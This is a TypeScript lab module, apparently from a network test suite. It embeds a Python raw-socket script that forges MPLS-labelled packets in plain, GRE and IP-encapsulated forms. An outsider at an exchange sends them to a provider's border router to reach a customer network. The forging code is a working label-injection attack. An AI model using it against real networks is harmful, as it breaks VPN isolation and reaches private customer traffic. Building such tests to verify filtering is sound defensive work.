// SPDX-License-Identifier: Apache-2.0
/** What somebody on the exchange sends who has no keys: MPLS in clear, from whatever address. */
import type { Providers } from './providers.js';

export interface Forged {
  readonly from: string;
  readonly to: string;
  readonly label: number;
  readonly count: number;
}

/** Packets with the label and under it a good IPv4 packet for a customer of PE 1. */
const PROGRAM = `
import socket, struct, sys
how, src, dst, label, count, mac = sys.argv[1:7]
def ip(proto, src, dst, body):
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(body), 0, 0x4000, 64, proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
    total = sum(struct.unpack('!10H', head))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return head[:10] + struct.pack('!H', ~total & 0xffff) + head[12:] + body
inner = ip(17, '10.2.0.2', '10.1.0.2', struct.pack('!HHHH', 4000, 4000, 16, 0) + b'outsider')
mpls = struct.pack('!I', int(label) << 12 | 1 << 8 | 64) + inner
if how == 'mpls':
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind(('eth0', 0))
    frame = bytes.fromhex(mac.replace(':', '')) + raw.getsockname()[4] + b'\\x88\\x47' + mpls
    for _ in range(int(count)): raw.send(frame)
else:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    body = struct.pack('!HH', 0, 0x8847) + mpls if how == 'gre' else mpls
    packet = ip(47 if how == 'gre' else 137, src, dst, body)
    for _ in range(int(count)): raw.sendto(packet, (dst, 0))
`;

/** From the exchange to the border router of X: MPLS-in-GRE, MPLS-in-IP or plain MPLS. */
export async function attack(
  net: Providers,
  how: 'gre' | 'ip' | 'mpls',
  { from, to, label, count }: Forged,
): Promise<void> {
  const out = net.netns('out');
  // The border router is a neighbour that answers.
  await net.lab.must(out, ['ping', '-q', '-c', '1', '198.51.100.10']);
  const neighbour = await net.lab.must(out, ['ip', 'neigh', 'show', '198.51.100.10']);
  const mac = /lladdr ([0-9a-f:]+)/.exec(neighbour)?.[1] ?? '';
  const argv = ['python3', '-c', PROGRAM, how, from, to, `${label}`, `${count}`, mac];
  await net.lab.must(out, argv);
}
